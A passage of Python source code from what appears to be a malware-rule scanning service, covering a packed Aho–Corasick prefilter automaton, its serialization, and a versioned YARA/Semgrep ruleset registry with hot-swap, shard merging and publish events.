        for sym in data.translate(self._translate):
            while True:
                slot = base[state] + sym
                if check[slot] == state + 1:
                    state = nxt[slot]
                    break
                if not state:
                    break
                state = fail[state]
            if state >= boundary:
                for word_id in outputs[state]:
                    if word_id not in hits:
                        hits.add(word_id)
                        pending -= 1
                if not pending:
                    break
        return hits

    # -- batch scanning -----------------------------------------------------------
    def find_batch(self, texts: Sequence[Union[str, bytes]]) -> List[Set[int]]:
        """Per-text hit sets for a whole batch, setup amortised across it.

        While the vocabulary groups into few enough guard prefixes, every
        text is joined (with a separator byte no word contains, so matches
        cannot cross texts) and each guard costs a single C-speed
        ``bytes.find`` pass over the whole batch; guard hits are verified
        per text.  Otherwise each text takes the packed DFA walk.  Either
        way the result equals ``[self.find(t) for t in texts]``.
        """
        if not texts:
            return []
        if not self.words:
            return [set() for _ in texts]
        encoded = [_encode(t) for t in texts]
        if (
            len(encoded) > 1
            and self._sep is not None
            and len(self._guards) <= self.batch_guard_limit
            and len(self.words) <= BATCH_WORD_LIMIT
        ):
            return self._find_batch_joined(encoded)
        return [self.find_bytes(data) for data in encoded]

    def _find_batch_joined(self, encoded: list[bytes]) -> List[Set[int]]:
        sep = bytes([self._sep])
        joined = sep.join(encoded)
        starts: list[int] = []
        ends: list[int] = []
        offset = 0
        for data in encoded:
            starts.append(offset)
            offset += len(data)
            ends.append(offset)
            offset += 1  # separator
        results: List[Set[int]] = [set() for _ in encoded]
        find = joined.find
        startswith = joined.startswith
        guard_len = GUARD_PREFIX_LENGTH
        words = self._encoded
        for guard, members in self._guards.items():
            pos = find(guard)
            if pos == -1:
                continue
            while pos != -1:
                text_index = bisect_right(ends, pos)
                hits = results[text_index]
                # every occurrence of a member starts with its guard, so an
                # exact-position ``startswith`` decides each member at this
                # occurrence — never a full-text scan per member (guards can
                # be common English prefixes shared by thousands of atoms)
                matched = 0
                for word_id in members:
                    if word_id in hits:
                        matched += 1
                    else:
                        word = words[word_id]
                        # a member no longer than the guard IS the guard
                        if len(word) <= guard_len or startswith(word, pos):
                            hits.add(word_id)
                            matched += 1
                if matched == len(members):
                    # all members hit in this text; skip to the next text
                    pos = find(guard, ends[text_index] + 1)
                else:
                    pos = find(guard, pos + 1)
        return results

    # -- serialization ------------------------------------------------------------
    def to_bytes(self) -> bytes:
        """Self-describing blob: header, word list, packed tables."""
        mode = _MODE_DENSE if self.mode == "dense" else _MODE_SPARSE
        itemsize = (
            self._delta if self._delta is not None else self._base
        ).itemsize
        header = _HEADER.pack(
            _MAGIC,
            _FORMAT_VERSION,
            mode,
            itemsize,
            0,
            self.alphabet_size,
            self.state_count,
            self._out_first,
            len(self.words),
            -1 if self._sep is None else self._sep,
            self.batch_guard_limit,
        )
        parts = [header]
        word_blob = bytearray()
        for word in self._encoded:
            word_blob += struct.pack("<i", len(word))
            word_blob += word
        parts.append(struct.pack("<i", len(word_blob)))
        parts.append(bytes(word_blob))
        parts.append(self._translate)
        arrays: tuple = (self._out_offsets, self._out_words)
        arrays += (self._delta,) if mode == _MODE_DENSE else (
            self._base,
            self._check,
            self._next,
            self._fail,
        )
        parts.append(struct.pack("<i", len(arrays)))
        for arr in arrays:
            raw = arr.tobytes()
            parts.append(struct.pack("<i", len(raw)))
            parts.append(raw)
        parts.append(struct.pack("<i", self.dense_cell_budget))
        return b"".join(parts)

    @classmethod
    def from_bytes(cls, blob: bytes) -> "PackedAutomaton":
        """Restore published tables without re-running construction.

        On an array-itemsize mismatch (tables built on a platform with a
        different ``array('i')`` width) the automaton is rebuilt from the
        word list instead — slower, never wrong.
        """
        if len(blob) < _HEADER.size or blob[:4] != _MAGIC:
            raise ValueError("not a PackedAutomaton blob")
        (
            magic,
            version,
            mode,
            itemsize,
            _flags,
            alphabet,
            states,
            out_first,
            n_words,
            sep,
            guard_limit,
        ) = _HEADER.unpack_from(blob, 0)
        if version != _FORMAT_VERSION:
            raise ValueError(f"unsupported PackedAutomaton format version {version}")
        pos = _HEADER.size
        (word_blob_len,) = struct.unpack_from("<i", blob, pos)
        pos += 4
        word_end = pos + word_blob_len
        encoded: list[bytes] = []
        while pos < word_end:
            (wlen,) = struct.unpack_from("<i", blob, pos)
            pos += 4
            encoded.append(blob[pos : pos + wlen])
            pos += wlen
        if len(encoded) != n_words:
            raise ValueError("corrupt PackedAutomaton blob: word count mismatch")
        words = [w.decode("utf-8", "surrogatepass") for w in encoded]
        translate = blob[pos : pos + 256]
        pos += 256
        (n_arrays,) = struct.unpack_from("<i", blob, pos)
        pos += 4
        raws: list[bytes] = []
        for _ in range(n_arrays):
            (raw_len,) = struct.unpack_from("<i", blob, pos)
            pos += 4
            raws.append(blob[pos : pos + raw_len])
            pos += raw_len
        (cell_budget,) = struct.unpack_from("<i", blob, pos)

        if itemsize != array("i").itemsize:
            return cls(
                words, dense_cell_budget=cell_budget, batch_guard_limit=guard_limit
            )

        self = cls.__new__(cls)
        self.words = words
        self._encoded = encoded
        self.dense_cell_budget = cell_budget
        self.batch_guard_limit = guard_limit
        self.alphabet_size = alphabet
        self.state_count = states
        self._out_first = out_first
        self._translate = translate
        self._sep = None if sep < 0 else sep

        def load(raw: bytes) -> array:
            arr = array("i")
            arr.frombytes(raw)
            return arr

        self._out_offsets = load(raws[0])
        self._out_words = load(raws[1])
        if mode == _MODE_DENSE:
            self.mode = "dense"
            self._delta = load(raws[2])
            self._base = self._check = self._next = self._fail = None
            self._out_boundary = out_first * alphabet
        else:
            self.mode = "sparse"
            self._base = load(raws[2])
            self._check = load(raws[3])
            self._next = load(raws[4])
            self._fail = load(raws[5])
            self._delta = None
            self._out_boundary = out_first
        self._finalize()
        return self

    def __reduce__(self):
        return (PackedAutomaton.from_bytes, (self.to_bytes(),))
