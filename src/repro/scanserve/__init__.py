"""Registry-scale scanning service with an atom-prefilter rule index.

``scanserve`` turns the one-package-at-a-time :class:`RuleScanner` into a
service-grade engine, mirroring how production scanners (YARA's atom-based
Aho–Corasick prefilter, registry malware pipelines) reach scale:

* :mod:`repro.scanserve.atoms` — literal-atom extraction from compiled
  YARA strings and Semgrep pattern anchors, with a provable "rule fires ⇒
  atom present" guarantee;
* :mod:`repro.scanserve.index` — an Aho–Corasick automaton over those atoms
  that narrows scanning to a small candidate-rule set (atom-less rules take
  an unconditional fallback lane, so detections stay bit-for-bit identical
  to naive scanning);
* :mod:`repro.scanserve.packed` — the automaton's hot path: publish-time
  compiled flat byte-level goto/fail tables (:class:`PackedAutomaton`) with
  batch scanning and ``to_bytes``/``from_bytes`` serialization;
* :mod:`repro.scanserve.registry` — versioned rule sets with atomic
  hot-swap and rollback;
* :mod:`repro.scanserve.cache` — a content-hash result cache keyed on
  ``(package fingerprint, ruleset version)``;
* :mod:`repro.scanserve.scheduler` — sharding, a bounded worker pool
  (multiprocessing with an in-process fallback) and backpressure;
* :mod:`repro.scanserve.service` — :class:`ScanService`, the batch-scanning
  front end tying the pieces together.

Entry points: build a :class:`RuleIndex` directly (or via
``RuleScanner.with_index``) for drop-in fast scanning, or run a
:class:`ScanService` for registry-style batch traffic (also exposed as the
``rulellm scan-batch`` CLI).
"""

from repro.scanserve.atoms import (
    DEFAULT_MIN_ATOM_LENGTH,
    RuleAtoms,
    guaranteed_identifiers,
    semgrep_rule_atoms,
    yara_rule_atoms,
)
from repro.scanserve.cache import CacheStats, DiskScanResultCache, ScanResultCache
from repro.scanserve.index import (
    AUTOMATON_LANE,
    AUTOMATON_THRESHOLD,
    SUBSTRING_LANE,
    AhoCorasick,
    IndexStats,
    RuleIndex,
)
from repro.scanserve.packed import (
    BATCH_GUARD_LIMIT,
    DENSE_CELL_BUDGET,
    PackedAutomaton,
)
from repro.scanserve.registry import (
    PublishEvent,
    RulesetRegistry,
    RulesetVersion,
    ShardProvenance,
    merge_shard_rulesets,
)
from repro.scanserve.scheduler import (
    AUTO,
    INPROCESS,
    PROCESS,
    BoundedQueue,
    ScanScheduler,
    ShardStats,
    chunk_items,
    shard_items,
)
from repro.scanserve.telemetry import RuleCost, RuleCostSample, RuleCostTracker
from repro.scanserve.service import (
    BatchScanResult,
    RescanDelta,
    ScanService,
    ScanServiceConfig,
    ServiceStats,
)

__all__ = [
    "DEFAULT_MIN_ATOM_LENGTH",
    "RuleAtoms",
    "guaranteed_identifiers",
    "yara_rule_atoms",
    "semgrep_rule_atoms",
    "AUTOMATON_LANE",
    "AUTOMATON_THRESHOLD",
    "SUBSTRING_LANE",
    "AhoCorasick",
    "IndexStats",
    "RuleIndex",
    "BATCH_GUARD_LIMIT",
    "DENSE_CELL_BUDGET",
    "PackedAutomaton",
    "PublishEvent",
    "RulesetRegistry",
    "RulesetVersion",
    "ShardProvenance",
    "merge_shard_rulesets",
    "CacheStats",
    "ScanResultCache",
    "DiskScanResultCache",
    "RuleCost",
    "RuleCostSample",
    "RuleCostTracker",
    "AUTO",
    "INPROCESS",
    "PROCESS",
    "BoundedQueue",
    "ScanScheduler",
    "ShardStats",
    "chunk_items",
    "shard_items",
    "BatchScanResult",
    "RescanDelta",
    "ScanService",
    "ScanServiceConfig",
    "ServiceStats",
]
