"""Versioned ruleset registry with atomic hot-swap.

A long-running scanning service must pick up newly generated rule sets
without dropping traffic: the pipeline publishes a new
:class:`RulesetVersion` (rules + prebuilt prefilter index), and the registry
swaps the *current* pointer atomically under a lock.  In-flight scans keep
the version they resolved at entry; result caches key on the version number
so stale entries can never serve a new ruleset's traffic.  Old versions stay
addressable for rollback.
"""

from __future__ import annotations

import threading
import time
import uuid
from dataclasses import dataclass, field
from typing import Optional

from repro.scanserve.atoms import DEFAULT_MIN_ATOM_LENGTH
from repro.scanserve.index import RuleIndex
from repro.semgrepx.compiler import CompiledSemgrepRuleSet
from repro.utils.hashing import stable_digest
from repro.yarax.compiler import CompiledRuleSet


@dataclass
class RulesetVersion:
    """An immutable published ruleset plus its prebuilt index.

    ``cache_key`` identifies the ruleset's *content* for result caches: two
    versions share a key iff they were published from identical rule
    sources, so a persistent cache can safely serve entries across process
    restarts (where the version counter starts over at 1).  When no content
    digest is available the key is unique per publish — correct, just never
    shared across processes.
    """

    version: int
    yara: Optional[CompiledRuleSet]
    semgrep: Optional[CompiledSemgrepRuleSet]
    index: RuleIndex
    label: str = ""
    cache_key: str = ""
    created_at: float = field(default_factory=time.time)

    @property
    def rule_count(self) -> int:
        yara = len(self.yara.rules) if self.yara is not None else 0
        semgrep = len(self.semgrep.rules) if self.semgrep is not None else 0
        return yara + semgrep

    def describe(self) -> str:
        stats = self.index.stats()
        label = f" ({self.label})" if self.label else ""
        return (
            f"v{self.version}{label}: {self.rule_count} rules, "
            f"{stats.atoms} atoms, {stats.indexed_fraction:.0%} indexed"
        )


class RulesetRegistry:
    """Thread-safe registry of published ruleset versions."""

    def __init__(self, min_atom_length: int = DEFAULT_MIN_ATOM_LENGTH) -> None:
        self.min_atom_length = min_atom_length
        self._lock = threading.Lock()
        self._versions: dict[int, RulesetVersion] = {}
        self._current: Optional[int] = None
        self._next_version = 1

    # -- publishing ---------------------------------------------------------------
    def publish(
        self,
        yara: Optional[CompiledRuleSet] = None,
        semgrep: Optional[CompiledSemgrepRuleSet] = None,
        label: str = "",
        activate: bool = True,
        content_digest: str = "",
    ) -> RulesetVersion:
        """Publish a new version; the index is built before the swap so the
        service never observes a half-initialised ruleset.

        ``content_digest`` (a stable digest of the rule sources) lets result
        caches recognise the same ruleset across processes; without one the
        version gets a unique key and its cached results die with it.
        """
        if yara is None and semgrep is None:
            raise ValueError("publish needs at least one rule set")
        index = RuleIndex(yara=yara, semgrep=semgrep, min_atom_length=self.min_atom_length)
        cache_key = content_digest or f"unshared-{uuid.uuid4().hex}"
        with self._lock:
            version = RulesetVersion(
                version=self._next_version,
                yara=yara,
                semgrep=semgrep,
                index=index,
                label=label,
                cache_key=cache_key,
            )
            self._next_version += 1
            self._versions[version.version] = version
            if activate:
                self._current = version.version
        return version

    def publish_generated(self, ruleset, label: str = "", activate: bool = True) -> RulesetVersion:
        """Publish a pipeline output (:class:`repro.core.rules.GeneratedRuleSet`).

        Duck-typed so ``scanserve`` stays import-independent of the pipeline
        layer: any object with ``yara_rules`` / ``semgrep_rules`` lists and
        ``compile_yara()`` / ``compile_semgrep()`` works.
        """
        yara = ruleset.compile_yara() if ruleset.yara_rules else None
        semgrep = ruleset.compile_semgrep() if ruleset.semgrep_rules else None
        digest = stable_digest(
            "\x00".join(
                f"{rule.format}\x01{rule.name}\x01{rule.text}"
                for rule in sorted(
                    ruleset.rules, key=lambda r: (r.format, r.name, r.text)
                )
            )
        )
        return self.publish(
            yara=yara, semgrep=semgrep, label=label, activate=activate,
            content_digest=digest,
        )

    # -- resolution ---------------------------------------------------------------
    def current(self) -> RulesetVersion:
        with self._lock:
            if self._current is None:
                raise LookupError("no ruleset has been published")
            return self._versions[self._current]

    def get(self, version: int) -> RulesetVersion:
        with self._lock:
            try:
                return self._versions[version]
            except KeyError:
                raise LookupError(f"unknown ruleset version {version}") from None

    def activate(self, version: int) -> RulesetVersion:
        """Atomically point the service at an already-published version
        (rollback or staged rollout)."""
        with self._lock:
            if version not in self._versions:
                raise LookupError(f"unknown ruleset version {version}")
            self._current = version
            return self._versions[version]

    def retire(self, version: int) -> None:
        """Drop a non-current version (frees its index)."""
        with self._lock:
            if version == self._current:
                raise ValueError(f"cannot retire the active version v{version}")
            self._versions.pop(version, None)

    # -- introspection ------------------------------------------------------------
    def versions(self) -> list[int]:
        with self._lock:
            return sorted(self._versions)

    def current_version(self) -> Optional[int]:
        with self._lock:
            return self._current

    def __len__(self) -> int:
        with self._lock:
            return len(self._versions)

    def describe(self) -> str:
        with self._lock:
            current = self._current
            lines = []
            for version in sorted(self._versions):
                marker = "*" if version == current else " "
                lines.append(f"{marker} {self._versions[version].describe()}")
        return "\n".join(lines) if lines else "(empty registry)"
