"""Versioned ruleset registry with atomic hot-swap, merge/stack publishes
and a publish event bus.

A long-running scanning service must pick up newly generated rule sets
without dropping traffic: the pipeline publishes a new
:class:`RulesetVersion` (rules + prebuilt prefilter index), and the registry
swaps the *current* pointer atomically under a lock.  In-flight scans keep
the version they resolved at entry; result caches key on the version number
so stale entries can never serve a new ruleset's traffic.  Old versions stay
addressable for rollback.

Sharded generation adds two first-class publish semantics on top of the
plain one:

* :meth:`RulesetRegistry.publish_merged` — union the outputs of several
  generation shards into **one** version, resolving rule-name collisions
  deterministically and recording per-shard :class:`ShardProvenance`;
* :meth:`RulesetRegistry.publish_stacked` — publish the shards as a chain
  of **cumulative layers** (layer *k* serves the union of the first *k*
  shards), each carrying a ``parent`` pointer to the layer below and a
  shared ``stack_id``, so activating a layer's parent peels the newest
  shard's contribution back off.

Anything interested in version changes subscribes to the registry's event
bus (:meth:`RulesetRegistry.subscribe`): every publish and every explicit
activation emits a typed :class:`PublishEvent` *after* the swap, outside the
registry lock, so subscribers (e.g. a :class:`~repro.scanserve.service.
ScanService` re-scanning its recency window) may freely call back into the
registry.
"""

from __future__ import annotations

import pickle
import threading
import time
import uuid
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Callable, Optional, Sequence, Tuple

from repro.obs.metrics import get_registry as _obs_registry
from repro.obs.trace import get_tracer
from repro.scanserve.atoms import DEFAULT_MIN_ATOM_LENGTH
from repro.scanserve.index import RuleIndex
from repro.semgrepx.compiler import CompiledSemgrepRuleSet
from repro.utils.hashing import stable_digest
from repro.yarax.compiler import CompiledRuleSet

if TYPE_CHECKING:  # pragma: no cover - typing only; scanserve stays import-light
    from repro.store.recovery import RuleStore
    from repro.store.snapshots import SnapshotManifest

#: Event kinds carried by :class:`PublishEvent`.
PUBLISH = "publish"
MERGED = "merged"
STACKED = "stacked"
ACTIVATE = "activate"


@dataclass
class ShardProvenance:
    """What one generation shard contributed to a merged/stacked version."""

    shard: str
    rules: list[str] = field(default_factory=list)  # rule names after merge
    rejected: int = 0
    renamed: list[str] = field(default_factory=list)  # post-collision names
    deduplicated: int = 0  # identical rules already contributed by an earlier shard

    def describe(self) -> str:
        extras = []
        if self.renamed:
            extras.append(f"{len(self.renamed)} renamed")
        if self.deduplicated:
            extras.append(f"{self.deduplicated} deduped")
        suffix = f" ({', '.join(extras)})" if extras else ""
        return f"{self.shard}: {len(self.rules)} rules{suffix}"


@dataclass
class RulesetVersion:
    """An immutable published ruleset plus its prebuilt index.

    ``cache_key`` identifies the ruleset's *content* for result caches: two
    versions share a key iff they were published from identical rule
    sources, so a persistent cache can safely serve entries across process
    restarts (where the version counter starts over at 1).  When no content
    digest is available the key is unique per publish — correct, just never
    shared across processes.

    ``parent`` / ``stack_id`` are set on stacked layers (see
    :meth:`RulesetRegistry.publish_stacked`); ``provenance`` records the
    per-shard contributions of a merged or stacked publish.
    """

    version: int
    yara: Optional[CompiledRuleSet]
    semgrep: Optional[CompiledSemgrepRuleSet]
    index: RuleIndex
    label: str = ""
    cache_key: str = ""
    created_at: float = field(default_factory=time.time)
    parent: Optional[int] = None
    stack_id: str = ""
    provenance: list[ShardProvenance] = field(default_factory=list)

    @property
    def rule_count(self) -> int:
        yara = len(self.yara.rules) if self.yara is not None else 0
        semgrep = len(self.semgrep.rules) if self.semgrep is not None else 0
        return yara + semgrep

    def describe(self) -> str:
        stats = self.index.stats()
        label = f" ({self.label})" if self.label else ""
        lineage = f" <- v{self.parent}" if self.parent is not None else ""
        shards = f", {len(self.provenance)} shards" if self.provenance else ""
        return (
            f"v{self.version}{label}{lineage}: {self.rule_count} rules, "
            f"{stats.atoms} atoms, {stats.indexed_fraction:.0%} indexed{shards}"
        )

    # -- serialization ------------------------------------------------------------
    def to_bytes(self) -> bytes:
        """The published version — compiled rules, packed index, provenance —
        as one self-contained blob.

        This is what process-pool shard workers receive: one
        :meth:`from_bytes` call attaches them to the exact tables the
        registry compiled at publish time, instead of re-deriving the index
        per worker.  The packed automaton inside serialises via its own
        table format (see :mod:`repro.scanserve.packed`), not by walking
        its object graph.
        """
        return _VERSION_BLOB_MAGIC + pickle.dumps(self, protocol=pickle.HIGHEST_PROTOCOL)

    @classmethod
    def from_bytes(cls, blob: bytes) -> "RulesetVersion":
        if not blob.startswith(_VERSION_BLOB_MAGIC):
            raise ValueError("not a RulesetVersion blob")
        version = pickle.loads(blob[len(_VERSION_BLOB_MAGIC):])
        if not isinstance(version, cls):
            raise ValueError(f"blob decoded to {type(version).__name__}, not {cls.__name__}")
        return version


_VERSION_BLOB_MAGIC = b"RSV1"
_REGISTRY_BLOB_MAGIC = b"RSREG1"


@dataclass(frozen=True)
class RetirementRecord:
    """Tombstone of a retired version: who dropped it and why.

    The version's rules and index are freed on retirement; the record (a
    few strings) stays addressable so ``describe()`` and audits can answer
    "where did v3 go?" — essential once automated policies (the arena's
    auto-retire) drop versions without a human in the loop.
    """

    version: int
    label: str = ""
    reason: str = ""
    retired_by: str = ""
    retired_at: float = field(default_factory=time.time)
    rule_count: int = 0

    def to_dict(self) -> dict:
        return {
            "version": self.version,
            "label": self.label,
            "reason": self.reason,
            "retired_by": self.retired_by,
            "retired_at": self.retired_at,
            "rule_count": self.rule_count,
        }

    def describe(self) -> str:
        label = f" ({self.label})" if self.label else ""
        by = f" by {self.retired_by}" if self.retired_by else ""
        why = f": {self.reason}" if self.reason else ""
        return f"v{self.version}{label} retired{by}{why}"


#: Retirement tombstones kept addressable per registry.
_MAX_RETIREMENT_RECORDS = 100


@dataclass
class PublishEvent:
    """One registry state change, delivered to every subscriber.

    ``kind`` is one of ``publish`` / ``merged`` / ``stacked`` /
    ``activate``; ``activated`` tells whether the *live* version changed
    (subscribers that only care about serving traffic — live re-scan — can
    ignore everything else).  ``previous_version`` is what was live before.
    ``namespace`` is the emitting registry's namespace (empty for the
    default single-tenant registry), so a bridge fanning events from many
    tenant registries into one stream can attribute each event.
    """

    version: RulesetVersion
    kind: str = PUBLISH
    activated: bool = True
    previous_version: Optional[int] = None
    namespace: str = ""


#: Subscriber callback signature.
PublishListener = Callable[[PublishEvent], None]


def merge_shard_rulesets(
    shards: Sequence[Tuple[str, object]],
) -> Tuple[object, list[ShardProvenance]]:
    """Union several generated rule sets into one, deterministically.

    ``shards`` is a sequence of ``(shard label, rule set)`` pairs, where a
    rule set duck-types :class:`repro.core.rules.GeneratedRuleSet` (``rules``
    / ``rejected`` lists of dataclass rules with ``format`` / ``name`` /
    ``text`` / ``cluster_id`` / ``origin`` fields).  Collision policy:

    * identical ``(format, name, text, cluster id)`` across shards — a true
      duplicate (two shards did the same work, e.g. round-robin shards that
      re-clustered overlapping content): deduplicated, the first shard keeps
      it and the later shard records a dedup;
    * same ``(format, name)`` but **different text** — the later rule is
      renamed ``<name>__<shard label>`` (both its ``name`` and the
      identifier inside its rule text), so no contribution is silently
      dropped;
    * same name *and* text but different cluster ids — kept as-is: a single
      session keeps such pairs too (its compilers de-duplicate names
      positionally), and dropping one would break single-session parity.

    The merged rules are ordered by ``(cluster id, format, origin, name)`` —
    exactly the order a single session emits (its refine stage sorts groups
    by ``(cluster, format, origin)``), so merging cluster-sharded outputs
    reproduces the single-session rule set bit for bit.
    """
    # deferred import: scanserve stays import-independent of the pipeline
    # layer at module level; merging inherently produces a pipeline container
    from repro.core.rules import GeneratedRuleSet

    merged = GeneratedRuleSet()
    provenance: list[ShardProvenance] = []
    texts_by_name: dict[tuple[str, str], set[str]] = {}  # (format, name) -> texts
    seen_exact: set[tuple] = set()  # (format, name, text, cluster id)
    collected: list[tuple[tuple, object]] = []

    for shard_label, rule_set in shards:
        record = ShardProvenance(shard=str(shard_label))
        record.rejected = len(getattr(rule_set, "rejected", []))
        if not merged.model:
            merged.model = getattr(rule_set, "model", "")
        for rule in rule_set.rules:
            exact = (rule.format, rule.name, rule.text, rule.cluster_id)
            if exact in seen_exact:
                record.deduplicated += 1
                continue
            known_texts = texts_by_name.get((rule.format, rule.name))
            if known_texts is not None and rule.text not in known_texts:
                suffix = str(shard_label)
                renamed = _renamed_rule(rule, suffix)
                attempt = 2
                while renamed.text not in texts_by_name.get(
                    (renamed.format, renamed.name), {renamed.text}
                ):
                    renamed = _renamed_rule(rule, f"{suffix}_{attempt}")
                    attempt += 1
                record.renamed.append(renamed.name)
                rule = renamed
                exact = (rule.format, rule.name, rule.text, rule.cluster_id)
            seen_exact.add(exact)
            texts_by_name.setdefault((rule.format, rule.name), set()).add(rule.text)
            record.rules.append(rule.name)
            cluster = rule.cluster_id if rule.cluster_id is not None else 1 << 30
            sort_key = (cluster, rule.format, rule.origin, rule.name)
            collected.append((sort_key, rule))
        provenance.append(record)

    for _, rule in sorted(collected, key=lambda item: item[0]):
        merged.add(rule)
    for _, rule_set in shards:
        merged.rejected.extend(getattr(rule_set, "rejected", []))
    return merged, provenance


def _renamed_rule(rule, shard_label: str):
    """A copy of ``rule`` renamed to avoid a cross-shard name collision.

    The identifier inside the rule text is rewritten too, so the compiled
    rule reports the resolved name.
    """
    safe = "".join(c if c.isalnum() else "_" for c in str(shard_label)) or "shard"
    new_name = f"{rule.name}__{safe}"
    text = rule.text
    if rule.format == "yara":
        text = text.replace(f"rule {rule.name}", f"rule {new_name}", 1)
    else:
        for marker in (f"- id: {rule.name}", f"id: {rule.name}"):
            if marker in text:
                text = text.replace(marker, marker.replace(rule.name, new_name), 1)
                break
    return replace(rule, name=new_name, text=text)


class RulesetRegistry:
    """Thread-safe registry of published ruleset versions."""

    def __init__(
        self,
        min_atom_length: int = DEFAULT_MIN_ATOM_LENGTH,
        automaton_threshold: Optional[int] = None,
        namespace: str = "",
        store: Optional["RuleStore"] = None,
    ) -> None:
        self.min_atom_length = min_atom_length
        self.automaton_threshold = automaton_threshold
        self.namespace = namespace  # stamped on every PublishEvent
        self._lock = threading.Lock()
        self._versions: dict[int, RulesetVersion] = {}
        self._current: Optional[int] = None
        self._next_version = 1
        self._subscribers: dict[int, PublishListener] = {}
        self._next_subscriber = 1
        self._retired: dict[int, RetirementRecord] = {}  # bounded tombstones
        self.subscriber_errors: list[str] = []  # bounded; diagnostics only
        self.store = store  # durable journal+blobs (see repro.store); optional
        self.recovery_notes: list[str] = []  # anomalies from the last recovery

    # -- event bus ----------------------------------------------------------------
    def subscribe(self, on_publish: PublishListener) -> int:
        """Register a listener for every publish/activate; returns a token.

        Listeners run synchronously in the publishing thread, *after* the
        version swap and outside the registry lock (re-entering the registry
        from a listener is safe).  A listener that raises is recorded in
        ``subscriber_errors`` and does not affect the publish or the other
        listeners.
        """
        with self._lock:
            token = self._next_subscriber
            self._next_subscriber += 1
            self._subscribers[token] = on_publish
            return token

    def unsubscribe(self, token: int) -> bool:
        with self._lock:
            return self._subscribers.pop(token, None) is not None

    def _notify(self, event: PublishEvent) -> None:
        with self._lock:
            listeners = list(self._subscribers.values())
        for listener in listeners:
            try:
                listener(event)
            except Exception as exc:  # a broken subscriber must not kill publishes
                self.subscriber_errors.append(f"{type(exc).__name__}: {exc}")
                del self.subscriber_errors[:-20]

    # -- publishing ---------------------------------------------------------------
    def publish(
        self,
        yara: Optional[CompiledRuleSet] = None,
        semgrep: Optional[CompiledSemgrepRuleSet] = None,
        label: str = "",
        activate: bool = True,
        content_digest: str = "",
    ) -> RulesetVersion:
        """Publish a new version; the index is built before the swap so the
        service never observes a half-initialised ruleset.

        ``content_digest`` (a stable digest of the rule sources) lets result
        caches recognise the same ruleset across processes; without one the
        version gets a unique key and its cached results die with it.
        """
        return self._publish(
            yara=yara, semgrep=semgrep, label=label, activate=activate,
            content_digest=content_digest, kind=PUBLISH,
        )

    def _publish(
        self,
        yara: Optional[CompiledRuleSet],
        semgrep: Optional[CompiledSemgrepRuleSet],
        label: str,
        activate: bool,
        content_digest: str,
        kind: str,
        parent: Optional[int] = None,
        stack_id: str = "",
        provenance: Optional[list[ShardProvenance]] = None,
    ) -> RulesetVersion:
        if yara is None and semgrep is None:
            raise ValueError("publish needs at least one rule set")
        with get_tracer().span("registry.publish", kind=kind) as span:
            index = RuleIndex(
                yara=yara,
                semgrep=semgrep,
                min_atom_length=self.min_atom_length,
                automaton_threshold=self.automaton_threshold,
            )
            span.set_attr("lane", index.lane)
        obs = _obs_registry()
        obs.counter(
            "repro_registry_publishes_total",
            "Ruleset versions published, by publish kind.",
            ("kind",),
        ).inc(kind=kind)
        obs.counter(
            "repro_index_builds_total",
            "Prefilter indexes built, by selected lane.",
            ("lane",),
        ).inc(lane=index.lane)
        cache_key = content_digest or f"unshared-{uuid.uuid4().hex}"
        with self._lock:
            previous = self._current
            version = RulesetVersion(
                version=self._next_version,
                yara=yara,
                semgrep=semgrep,
                index=index,
                label=label,
                cache_key=cache_key,
                parent=parent,
                stack_id=stack_id,
                provenance=list(provenance or []),
            )
            # write-ahead: the journal record (and its version blob) must be
            # durable *before* the in-memory swap — a crash mid-journal leaves
            # a torn record recovery truncates, never a half-published version
            self._journal_publish(version, kind=kind, activated=activate)
            self._next_version += 1
            self._versions[version.version] = version
            if activate:
                self._current = version.version
        self._notify(
            PublishEvent(
                version=version, kind=kind, activated=activate,
                previous_version=previous, namespace=self.namespace,
            )
        )
        return version

    def publish_generated(self, ruleset, label: str = "", activate: bool = True) -> RulesetVersion:
        """Publish a pipeline output (:class:`repro.core.rules.GeneratedRuleSet`).

        Duck-typed so ``scanserve`` stays import-independent of the pipeline
        layer: any object with ``yara_rules`` / ``semgrep_rules`` lists and
        ``compile_yara()`` / ``compile_semgrep()`` works.
        """
        return self._publish_ruleset(
            ruleset, label=label, activate=activate, kind=PUBLISH
        )

    def _publish_ruleset(
        self,
        ruleset,
        label: str,
        activate: bool,
        kind: str,
        parent: Optional[int] = None,
        stack_id: str = "",
        provenance: Optional[list[ShardProvenance]] = None,
    ) -> RulesetVersion:
        yara = ruleset.compile_yara() if ruleset.yara_rules else None
        semgrep = ruleset.compile_semgrep() if ruleset.semgrep_rules else None
        digest = stable_digest(
            "\x00".join(
                f"{rule.format}\x01{rule.name}\x01{rule.text}"
                for rule in sorted(
                    ruleset.rules, key=lambda r: (r.format, r.name, r.text)
                )
            )
        )
        return self._publish(
            yara=yara, semgrep=semgrep, label=label, activate=activate,
            content_digest=digest, kind=kind, parent=parent, stack_id=stack_id,
            provenance=provenance,
        )

    def publish_merged(
        self,
        shards: Sequence[Tuple[str, object]],
        label: str = "",
        activate: bool = True,
    ) -> RulesetVersion:
        """Union several shards' rule sets into **one** published version.

        ``shards`` is ``[(shard label, generated rule set), ...]`` — see
        :func:`merge_shard_rulesets` for the collision/ordering policy.  The
        published version carries a :class:`ShardProvenance` entry per shard
        and emits a ``merged`` :class:`PublishEvent`.
        """
        if not shards:
            raise ValueError("publish_merged needs at least one shard")
        merged, provenance = merge_shard_rulesets(shards)
        return self.publish_merged_set(
            merged, provenance, label=label, activate=activate
        )

    def publish_merged_set(
        self,
        merged,
        provenance: Sequence[ShardProvenance],
        label: str = "",
        activate: bool = True,
    ) -> RulesetVersion:
        """Publish an **already-merged** fleet rule set.

        The lower-level half of :meth:`publish_merged`: callers that also
        need the merged container itself (e.g. the orchestrator, which
        returns it on the :class:`FleetResult`) run
        :func:`merge_shard_rulesets` once and hand both halves here instead
        of paying for the merge twice.
        """
        if not merged.rules:
            raise ValueError("no shard contributed any rules")
        return self._publish_ruleset(
            merged, label=label, activate=activate, kind=MERGED,
            provenance=list(provenance),
        )

    def publish_stacked(
        self,
        shards: Sequence[Tuple[str, object]],
        label: str = "",
        activate: bool = True,
        parent: Optional[int] = None,
    ) -> list[RulesetVersion]:
        """Publish the shards as a chain of cumulative layer versions.

        Layer *k* contains the merged union of shards ``0..k`` — the top
        layer serves everything, and each layer's ``parent`` points at the
        layer below (the first layer's at ``parent``, e.g. the version the
        stack grew from).  All layers share a ``stack_id``.  Only the top
        layer is activated (when ``activate``), so rolling back one shard's
        contribution is ``registry.activate(version.parent)``.
        """
        if not shards:
